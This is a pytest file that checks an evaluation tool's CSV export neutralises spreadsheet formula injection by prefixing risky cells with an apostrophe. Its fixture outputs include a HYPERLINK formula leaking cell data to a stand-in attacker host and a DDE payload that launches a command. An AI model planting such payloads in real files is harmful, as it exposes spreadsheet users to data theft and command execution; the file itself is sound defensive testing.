"""`evalsvc export --format csv` with model outputs a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from click.testing import CliRunner

from evalsvc.cli import main
from tests.conftest import write_config, write_suite
from tests.fake_endpoint import FakeEndpoint

OUTPUTS = {"c0": '=HYPERLINK("http://evil.example/?"&A1,"click")', "c1": "+1+cmd|' /C calc'!A0", "c2": "-2+3",
           "c3": "@SUM(A1:A9)", "c4": "\t=1+1", "c5": "plain = text", "c6": "'quoted"}


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text_and_jsonl_keeps_them(tmp_path: Path) -> None:
    cases = "\n".join(f'{{"id": "{c}", "input": "{c}", "checks": [{{"type": "contains", "value": "x"}}]}}' for c in OUTPUTS)
    write_suite(tmp_path / "suites", "s", cases)
    with FakeEndpoint(reply=lambda body: OUTPUTS[body["messages"][-1]["content"]]) as fake:
        config = write_config(tmp_path, f"""\
            store: sqlite:///store.db
            variants: [{{name: v, family: f, endpoint: {{base_url: "{fake.base_url}", model: m}}}}]
            """)
        assert CliRunner().invoke(main, ["run", "--no-progress", "-c", str(config)]).exit_code in (0, 1, 2)
    for fmt in ("csv", "jsonl"):
        done = CliRunner().invoke(main, ["export", "--format", fmt, "--out", str(tmp_path / f"x.{fmt}"), "-c", str(config)])
        assert done.exit_code == 0, done.output
    with (tmp_path / "x.csv").open(newline="", encoding="utf-8") as f:
        got = {row["case_id"]: row["output"] for row in csv.DictReader(f)}
    assert got == {"c0": "'" + OUTPUTS["c0"], "c1": "'" + OUTPUTS["c1"], "c2": "'-2+3", "c3": "'@SUM(A1:A9)",
                   "c4": "'\t=1+1", "c5": "plain = text", "c6": "'quoted"}
    lines = (tmp_path / "x.jsonl").read_text().splitlines()
    assert {json.loads(line)["case_id"]: json.loads(line)["output"] for line in lines} == OUTPUTS
